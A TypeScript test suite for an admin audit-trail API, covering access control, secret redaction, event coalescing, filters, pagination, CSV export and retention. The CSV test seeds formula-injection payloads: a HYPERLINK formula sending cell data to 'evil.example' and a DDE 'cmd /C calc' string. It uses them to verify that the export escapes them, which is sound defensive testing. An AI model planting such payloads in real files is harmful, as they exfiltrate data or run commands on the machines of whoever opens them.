import assert from 'node:assert/strict'
import { after, before, beforeEach, describe, test } from 'node:test'
import { SECURITY_EVENTS } from '../../src/logging/events.ts'
import { encodeCursor } from '../../src/modules/audit/audit-cursor.ts'
import { COALESCED, createAuditRepository, type NewAuditRow } from '../../src/modules/audit/audit.repository.ts'
import { createAgent } from '../support/agent.ts'
import { buildTestApp, type TestApp } from '../support/app.ts'
import { createTestDatabase } from '../support/database.ts'
import { databaseKinds, MANY_USERS_ENV, setRole, signedIn, type SignedInUser } from '../support/factories.ts'

const URL_ = '/api/admin/audit-events'
/** The CSV's columns: the JSON's fields, in the contract's order. */
const CSV_HEADER = ['id', 'timestamp', 'event', 'user_id', 'username', 'remote_addr', 'request_id', 'count', 'extra']
const EVENT_KEYS = ['count', 'event', 'extra', 'id', 'remote_addr', 'request_id', 'timestamp', 'user_id', 'username']
/** Rows seeded in 2025, well before the test clock (2026-01-15): the live events of a test are after it. */
const SEEDED = Date.UTC(2025, 5, 1, 8, 0, 0)
const SEEDED_UNTIL = '2025-12-31T00:00:00Z'

interface EventView {
  id: number
  timestamp: string
  event: string
  user_id: number | null
  username: string | null
  remote_addr: string
  request_id: string | null
  count: number
  extra: Record<string, unknown>
}

function seedRow(overrides: Partial<NewAuditRow> & { timestamp: number }): NewAuditRow {
  return {
    minute: Math.floor(overrides.timestamp / 60_000) * 60_000,
    event: 'auth_failure',
    user_id: null,
    remote_addr: '192.0.2.1',
    request_id: null,
    count: 1,
    extra: '{}',
    occurrence: COALESCED,
    ...overrides,
  }
}

/** A small RFC 4180 reader, to check the CSV reads back as the rows it came from. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let i = 0
  let quoted = false
  while (i < text.length) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i += 2
        continue
      }
      if (c === '"') quoted = false
      else cell += c
      i++
      continue
    }
    if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += c
    i++
  }
  assert.equal(cell, '', 'the CSV ends with CRLF')
  return rows
}

for (const { kind, postgresUrl } of databaseKinds()) {
  describe(`audit trail on ${kind} (CONTRACT §13 "Audit trail")`, () => {
    let t: TestApp
    let admin: SignedInUser
    let learner: SignedInUser

    before(async () => {
      t = await buildTestApp({ env: MANY_USERS_ENV, database: kind, postgresUrl })
      admin = await signedIn(t, 'admin', 'auditor')
      learner = await signedIn(t, 'learner', 'student')
    })
    after(() => t.close())
    beforeEach(async () => {
      await t.app.audit.writer.flush()
      await t.database.db.deleteFrom('audit_events').execute()
    })

    const seed = (rows: NewAuditRow[]) => createAuditRepository(t.database.db).write(rows)
    const read = async (query: string) => {
      const res = await admin.agent.get(`${URL_}?${query}`)
      assert.equal(res.statusCode, 200, res.body)
      return res.json() as { events: EventView[]; next: string | null }
    }

    describe('access: declared on the route, checked before the query', () => {
      test('signed out: 401, even with a bad limit, event or cursor', async () => {
        const anonymous = createAgent(t)
        for (const query of ['', '?limit=501', '?event=nope', '?before=garbage', '?since=yesterday']) {
          const res = await anonymous.get(`${URL_}${query}`)
          assert.equal(res.statusCode, 401, query)
          assert.equal(res.json().error, 'Authentication required')
        }
      })

      test('a learner or an instructor: 403 and a permission_denied event, even with a bad limit', async () => {
        const instructor = await signedIn(t, 'instructor', 'teacher')
        for (const who of [learner, instructor]) {
          for (const query of ['', '?limit=501', '?format=csv']) {
            const res = await who.agent.get(`${URL_}${query}`)
            assert.equal(res.statusCode, 403, query)
          }
        }
        const denied = t.events('permission_denied').filter((line) => line.path === URL_)
        assert.ok(denied.length >= 6)
      })

      test('an admin: 200 with the contract shape, newest first, next null at the end', async () => {
        await seed([seedRow({ timestamp: SEEDED }), seedRow({ timestamp: SEEDED + 1, event: 'logout' })])
        const body = await read('')
        assert.deepEqual(Object.keys(body).sort(), ['events', 'next'])
        assert.deepEqual(
          body.events.map((e) => e.event),
          ['logout', 'auth_failure'],
        )
        assert.deepEqual(Object.keys(body.events[0]!).sort(), EVENT_KEYS)
        assert.equal(body.events[0]!.timestamp, new Date(SEEDED + 1).toISOString())
        assert.equal(body.next, null)
      })
    })

    describe('what is kept', () => {
      test('a failed login is a row as its log line has it: address, request id, the account, the redacted extra', async () => {
        const agent = createAgent(t)
        const res = await agent.post('/api/login', {
          json: { username: learner.username, password: 'wrong password!' },
        })
        assert.equal(res.statusCode, 401)
        await t.app.audit.writer.flush()
        const line = t.events('auth_failure').at(-1)!
        const [row] = (await read('event=auth_failure')).events
        assert.equal(row!.request_id, res.headers['x-request-id'])
        assert.equal(row!.request_id, line.request_id)
        assert.equal(row!.remote_addr, line.remote_addr)
        assert.equal(row!.user_id, learner.id, 'the attempted account')
        assert.equal(row!.username, learner.username)
        assert.deepEqual(row!.extra, line.extra)
        assert.equal(row!.count, 1)
        assert.equal(row!.timestamp, line.timestamp)
      })

      test('every security event of a request goes in, and only those: an admin action, a CSRF refusal, a sign-out', async () => {
        const target = await signedIn(t, 'learner', 'target')
        await t.app.audit.writer.flush()
        await t.database.db.deleteFrom('audit_events').execute()
        assert.equal(
          (await admin.agent.patch(`/api/admin/users/${target.id}`, { json: { role: 'instructor' } })).statusCode,
          200,
        )
        assert.equal((await target.agent.post('/api/logout', { csrf: false })).statusCode, 403)
        assert.equal((await target.agent.post('/api/logout')).statusCode, 204)
        await t.app.audit.writer.flush()
        const { events } = await read('')
        assert.deepEqual(
          events.map((e) => [e.event, e.user_id]).sort(),
          [
            ['admin_action', admin.id],
            ['csrf_violation', target.id],
            ['logout', target.id],
          ].sort(),
        )
        const action = events.find((e) => e.event === 'admin_action')!
        assert.equal(action.username, admin.username)
        assert.equal(action.extra.target_id, target.id)
        for (const e of events) assert.ok(SECURITY_EVENTS.includes(e.event as never))
      })

      test('no secret reaches the trail: a password, a token or a cookie in extra is redacted', async () => {
        const agent = createAgent(t)
        await agent.post('/api/login', { json: { username: 'nobody-here', password: 'my secret passphrase' } })
        await agent.post('/api/profile/password', {
          json: { current_password: 'my secret passphrase', new_password: 'x' },
          csrf: 'forged-token-value',
        })
        await t.app.audit.writer.flush()
        const stored = await t.database.db.selectFrom('audit_events').selectAll().execute()
        assert.ok(stored.length >= 2)
        const text = JSON.stringify(stored)
        for (const secret of ['my secret passphrase', 'forged-token-value', agent.sessionCookie() ?? 'x'.repeat(40)]) {
          assert.ok(!text.includes(secret), secret)
        }
      })

      test('the crowd: 2,000 failed logins from one address are a few rows whose counts sum to 2,000', async () => {
        const agent = createAgent(t)
        await agent.csrfToken()
        for (let i = 0; i < 2000; i++) {
          // Across two minutes and a write in the middle: the count carries on across batches.
          if (i === 1000) {
            await t.app.audit.writer.flush()
            t.clock.advance(60_000)
          }
          const res = await agent.post('/api/login', {
            json: { username: `guess${i % 7}`, password: 'not the password' },
          })
          assert.equal(res.statusCode, 401)
        }
        await t.app.audit.writer.flush()
        const rows = await t.database.db
          .selectFrom('audit_events')
          .select(['count', 'remote_addr'])
          .where('event', '=', 'auth_failure')
          .execute()
        assert.ok(rows.length <= 3, `${rows.length} rows`)
        assert.equal(
          rows.reduce((sum, r) => sum + r.count, 0),
          2000,
        )
        const { events } = await read('event=auth_failure')
        assert.equal(
          events.reduce((sum, e) => sum + e.count, 0),
          2000,
        )
      })
    })

    describe('granted actions are kept one row each, never coalesced', () => {
      test('two admin actions by one admin from one address in one minute are two rows with their own details', async () => {
        const [promoted, disabled] = [await signedIn(t, 'learner', 'promoted'), await signedIn(t, 'learner', 'off')]
        await t.app.audit.writer.flush()
        await t.database.db.deleteFrom('audit_events').execute()
        const first = await admin.agent.patch(`/api/admin/users/${promoted.id}`, { json: { role: 'instructor' } })
        const second = await admin.agent.patch(`/api/admin/users/${disabled.id}`, { json: { disabled: true } })
        assert.equal(first.statusCode, 200)
        assert.equal(second.statusCode, 200)
        await t.app.audit.writer.flush()
        const { events } = await read('event=admin_action')
        assert.equal(events.length, 2)
        assert.equal(events[0]!.remote_addr, events[1]!.remote_addr, 'one address')
        assert.equal(
          Math.floor(Date.parse(events[0]!.timestamp) / 60_000),
          Math.floor(Date.parse(events[1]!.timestamp) / 60_000),
        )
        const byTarget = new Map(events.map((e) => [e.extra.target_id, e]))
        assert.deepEqual(byTarget.get(promoted.id)!.extra.change, { role: { from: 'learner', to: 'instructor' } })
        assert.deepEqual(byTarget.get(disabled.id)!.extra.change, { disabled: { from: false, to: true } })
        assert.equal(byTarget.get(promoted.id)!.request_id, first.headers['x-request-id'])
        assert.equal(byTarget.get(disabled.id)!.request_id, second.headers['x-request-id'])
        for (const e of events) {
          assert.equal(e.count, 1)
          assert.equal(e.user_id, admin.id)
        }
      })

      test('the crowd: 30 learners signing in behind one address in one minute are 30 rows naming each', async () => {
        const learners: SignedInUser[] = []
        for (let i = 0; i < 30; i++) learners.push(await signedIn(t, 'learner', 'class'))
        await t.app.audit.writer.flush()
        await t.database.db.deleteFrom('audit_events').execute()
        for (const who of learners) {
          const res = await createAgent(t).post('/api/login', {
            json: { username: who.username, password: who.password },
          })
          assert.equal(res.statusCode, 200)
        }
        await t.app.audit.writer.flush()
        const { events } = await read('event=auth_success')
        assert.equal(events.length, 30)
        assert.equal(new Set(events.map((e) => e.remote_addr)).size, 1, 'one address')
        assert.equal(new Set(events.map((e) => Math.floor(Date.parse(e.timestamp) / 60_000))).size, 1, 'one minute')
        assert.equal(new Set(events.map((e) => e.request_id)).size, 30)
        assert.ok(events.every((e) => e.count === 1))
        assert.deepEqual(
          events.map((e) => [e.user_id, e.username, e.extra.username]).sort(),
          learners.map((who) => [who.id, who.username, who.username]).sort(),
        )
      })
    })

    describe('filters', () => {
      beforeEach(async () => {
        await seed([
          seedRow({ timestamp: SEEDED, event: 'auth_failure', user_id: 11 }),
          seedRow({ timestamp: SEEDED + 60_000, event: 'auth_success', user_id: 11 }),
          seedRow({ timestamp: SEEDED + 120_000, event: 'auth_success', user_id: 12 }),
          seedRow({ timestamp: SEEDED + 180_000, event: 'logout', user_id: 12 }),
          seedRow({ timestamp: SEEDED + 240_000, event: 'csrf_violation', user_id: null }),
        ])
      })
      const events = async (query: string) => (await read(query)).events.map((e) => [e.event, e.user_id])

      test('event', async () => {
        assert.deepEqual(await events('event=auth_success'), [
          ['auth_success', 12],
          ['auth_success', 11],
        ])
        assert.deepEqual(await events('event=password_reset'), [])
      })

      test('user_id', async () => {
        assert.deepEqual(await events('user_id=11'), [
          ['auth_success', 11],
          ['auth_failure', 11],
        ])
        assert.deepEqual(await events('user_id=11&event=auth_failure'), [['auth_failure', 11]])
      })

      test('since (inclusive) and until (exclusive)', async () => {
        const at = (ms: number) => new Date(ms).toISOString()
        assert.deepEqual(await events(`since=${at(SEEDED + 120_000)}`), [
          ['csrf_violation', null],
          ['logout', 12],
          ['auth_success', 12],
        ])
        assert.deepEqual(await events(`until=${at(SEEDED + 120_000)}`), [
          ['auth_success', 11],
          ['auth_failure', 11],
        ])
        assert.deepEqual(await events(`since=${at(SEEDED + 60_000)}&until=${at(SEEDED + 180_000)}`), [
          ['auth_success', 12],
          ['auth_success', 11],
        ])
        // Another zone names the same instant.
        assert.deepEqual(await events(`since=2025-06-01T10:04:00%2B02:00&until=${SEEDED_UNTIL}`), [
          ['csrf_violation', null],
        ])
      })

      test('bad filters are 400 with a message, and change nothing', async () => {
        const cases: Array<[string, RegExp]> = [
          ['event=nope', /event/],
          ['event=request_complete', /event/],
          ['user_id=abc', /user_id/],
          ['user_id=0', /user_id/],
          ['user_id=2147483648', /user_id/],
          ['since=yesterday', /since/],
          ['until=2026-13-01T00:00:00Z', /until/],
          ['since=2026-01-01', /since/],
          ['since=2026-01-02T00:00:00Z&until=2026-01-01T00:00:00Z', /until must be later than since/],
          ['since=2026-01-01T00:00:00Z&until=2026-01-01T00:00:00Z', /until must be later than since/],
          ['format=xml', /format/],
        ]
        for (const [query, message] of cases) {
          const res = await admin.agent.get(`${URL_}?${query}`)
          assert.equal(res.statusCode, 400, query)
          assert.match(res.json().error, message, query)
        }
        assert.equal((await read('')).events.length, 5)
      })
    })

    describe('limit and pages', () => {
      test('limit 1 and 500 are accepted; 0 and 501 are 400; the default is 100', async () => {
        await seed(
          Array.from({ length: 501 }, (_, i) =>
            seedRow({ timestamp: SEEDED, remote_addr: `10.1.${i >> 8}.${i & 255}` }),
          ),
        )
        assert.equal((await read('limit=1')).events.length, 1)
        const full = await read('limit=500')
        assert.equal(full.events.length, 500)
        assert.notEqual(full.next, null)
        assert.equal((await read('')).events.length, 100)
        for (const limit of ['0', '501', '-1', '1.5', 'many']) {
          const res = await admin.agent.get(`${URL_}?limit=${limit}`)
          assert.equal(res.statusCode, 400, limit)
          assert.match(res.json().error, /limit/)
        }
      })

      test('three pages over rows sharing one timestamp: every row once, none skipped, in (timestamp, id) order', async () => {
        // 250 rows: 120 at one instant, 130 at the next millisecond (pages cut inside both groups).
        await seed(
          Array.from({ length: 250 }, (_, i) =>
            seedRow({ timestamp: SEEDED + (i < 120 ? 0 : 1), remote_addr: `10.2.0.${i}`, event: 'rate_limited' }),
          ),
        )
        const seen: EventView[] = []
        let query = 'limit=100&event=rate_limited'
        const sizes: number[] = []
        for (;;) {
          const page = await read(query)
          sizes.push(page.events.length)
          seen.push(...page.events)
          // Rows that arrive meanwhile (newer) never shift the pages already handed out.
          await seed([seedRow({ timestamp: Date.UTC(2026, 0, 1) + sizes.length, event: 'rate_limited' })])
          if (page.next === null) break
          query = `limit=100&event=rate_limited&before=${page.next}&until=${SEEDED_UNTIL}`
        }
        assert.deepEqual(sizes, [100, 100, 50])
        assert.equal(new Set(seen.map((e) => e.id)).size, 250)
        const expected = [...seen].sort((a, b) => b.timestamp.localeCompare(a.timestamp) || b.id - a.id)
        assert.deepEqual(
          seen.map((e) => e.id),
          expected.map((e) => e.id),
        )
      })

      test('a bad cursor is 400 "Invalid cursor"; a well-formed one past the end is an empty page', async () => {
        for (const cursor of ['garbage', 'MTI6eA', Buffer.from('012:5').toString('base64url'), '%00']) {
          const res = await admin.agent.get(`${URL_}?before=${cursor}`)
          assert.equal(res.statusCode, 400, cursor)
          assert.equal(res.json().error, 'Invalid cursor')
        }
        const res = await admin.agent.get(`${URL_}?before=${encodeCursor({ timestamp: 0, id: 1 })}&format=csv`)
        assert.equal(res.statusCode, 200)
        assert.deepEqual(await read(`before=${encodeCursor({ timestamp: 0, id: 1 })}`), { events: [], next: null })
      })
    })

    describe('CSV', () => {
      test('text/csv, an attachment, a header row, RFC 4180 quoting and no formulas', async () => {
        await seed([
          seedRow({
            timestamp: SEEDED,
            event: 'admin_action',
            remote_addr: '=HYPERLINK("http://evil.example/?"&A1,"click")',
            request_id: '+cmd|" /C calc"!A0',
            extra: JSON.stringify({ key: 'line one\r\nline two, "quoted"', at: '@SUM(1)' }),
          }),
          seedRow({ timestamp: SEEDED + 1, event: 'rate_limited', remote_addr: '-2+3', request_id: '\tx', count: 7 }),
          seedRow({ timestamp: SEEDED + 2, event: 'logout', remote_addr: '@me', request_id: null }),
        ])
        const res = await admin.agent.get(`${URL_}?format=csv`)
        assert.equal(res.statusCode, 200)
        assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8')
        assert.match(String(res.headers['content-disposition']), /^attachment; filename="[\w.-]+\.csv"$/)
        assert.equal(res.headers['cache-control'], 'no-store')
        assert.equal(res.headers['x-content-type-options'], 'nosniff')
        assert.equal(res.headers.link, undefined)
        const rows = parseCsv(res.body)
        assert.deepEqual(rows[0], CSV_HEADER)
        assert.equal(rows.length, 4)
        const [logout, limited, action] = rows.slice(1)
        assert.equal(logout![2], 'logout')
        assert.equal(logout![5], "'@me")
        assert.equal(logout![6], '')
        assert.equal(limited![5], "'-2+3")
        assert.equal(limited![6], "'\tx")
        assert.equal(limited![7], '7')
        assert.equal(action![1], new Date(SEEDED).toISOString())
        assert.equal(action![5], `'=HYPERLINK("http://evil.example/?"&A1,"click")`)
        assert.equal(action![6], `'+cmd|" /C calc"!A0`)
        assert.deepEqual(JSON.parse(action![8]!), { key: 'line one\r\nline two, "quoted"', at: '@SUM(1)' })
        // Every formula-looking cell starts with the apostrophe, in the raw bytes too.
        assert.ok(!/(^|,)[=+\-@\t]/m.test(res.body.replaceAll(/"(?:[^"]|"")*"/g, '""')))
      })

      test('the filters apply; past 5,000 rows a Link header continues with the same filters', async () => {
        await seed(
          Array.from({ length: 5003 }, (_, i) =>
            seedRow({ timestamp: SEEDED + i, event: 'csrf_violation', remote_addr: `10.3.${i >> 8}.${i & 255}` }),
          ),
        )
        await seed([seedRow({ timestamp: SEEDED, event: 'logout' })])
        const res = await admin.agent.get(`${URL_}?format=csv&event=csrf_violation`)
        assert.equal(res.statusCode, 200)
        const rows = parseCsv(res.body)
        assert.equal(rows.length, 5001)
        assert.ok(rows.slice(1).every((row) => row[2] === 'csrf_violation'))
        const link = /^<([^>]+)>; rel="next"$/.exec(String(res.headers.link))
        assert.ok(link, String(res.headers.link))
        const next = await admin.agent.get(link[1]!)
        const rest = parseCsv(next.body).slice(1)
        assert.equal(rest.length, 3)
        assert.equal(next.headers.link, undefined)
        const ids = new Set([...rows.slice(1), ...rest].map((row) => row[0]))
        assert.equal(ids.size, 5003)
      })
    })

    test('retention: AUDIT_RETENTION_DAYS old rows go when the prune runs', async () => {
      const day = 86_400_000
      await seed([
        seedRow({ timestamp: t.clock.now() - 365 * day - 1, remote_addr: 'old' }),
        seedRow({ timestamp: t.clock.now() - 365 * day, remote_addr: 'kept' }),
      ])
      assert.equal(await t.app.audit.retention.prune(), 1)
      assert.deepEqual(
        (await read('')).events.map((e) => e.remote_addr),
        ['kept'],
      )
    })
  })

  describe(`audit trail across a restart on ${kind}`, () => {
    test('events written by one app are read by the next on the same database; closing writes the buffer', async () => {
      const database = await createTestDatabase(kind, postgresUrl)
      try {
        const first = await buildTestApp({ env: MANY_USERS_ENV, deps: { database } })
        const admin = await signedIn(first, 'learner', 'keeper')
        await setRole(database.db, admin.id, 'admin') // this database, not the test app's own
        await createAgent(first).post('/api/login', { json: { username: admin.username, password: 'wrong password!' } })
        await first.close() // no flush: closing the app writes what is buffered
        const second = await buildTestApp({ env: MANY_USERS_ENV, deps: { database } })
        try {
          const agent = createAgent(second)
          const login = await agent.post('/api/login', { json: { username: admin.username, password: admin.password } })
          assert.equal(login.statusCode, 200)
          const res = await agent.get(`${URL_}?event=auth_failure`)
          assert.equal(res.statusCode, 200, res.body)
          const { events } = res.json() as { events: EventView[] }
          assert.equal(events.length, 1)
          assert.equal(events[0]!.user_id, admin.id)
        } finally {
          await second.close()
        }
      } finally {
        await database.close()
      }
    })
  })
}

describe('the writer never delays a request', () => {
  for (const mode of ['throws', 'never answers'] as const) {
    test(`a database that ${mode} on insert: requests still answer, the buffer stays bounded, the loss is logged`, async () => {
      const database = await createTestDatabase('sqlite')
      const real = createAuditRepository(database.db)
      let writes = 0
      const t = await buildTestApp({
        env: MANY_USERS_ENV,
        deps: {
          database,
          audit: {
            repository: {
              ...real,
              write: () => {
                writes++
                return mode === 'throws' ? Promise.reject(new Error('disk I/O error')) : new Promise<void>(() => {})
              },
            },
            maxPendingRows: 5,
            closeTimeoutMs: 50,
          },
        },
      })
      try {
        const agent = createAgent(t)
        for (let i = 0; i < 20; i++) {
          t.clock.advance(60_000) // a new minute: a new row each time
          const res = await agent.post('/api/login', { json: { username: 'nobody', password: 'wrong password!' } })
          assert.equal(res.statusCode, 401)
          assert.ok(t.app.audit.writer.pendingRows() <= 5)
          if (i === 2) void t.app.audit.writer.flush() // a write starts (and fails, or hangs)
        }
        assert.ok(writes >= 1)
        await t.close()
      } finally {
        await database.close()
      }
      const dropped = t.events('audit_events_dropped')
      assert.ok(dropped.length >= 1)
      assert.equal(
        dropped.reduce((sum, line) => sum + Number((line.extra as { dropped: number }).dropped), 0),
        20,
        'every event is either written or counted as dropped',
      )
      assert.ok(dropped.every((line) => line.level === 'WARNING'))
    })
  }
})
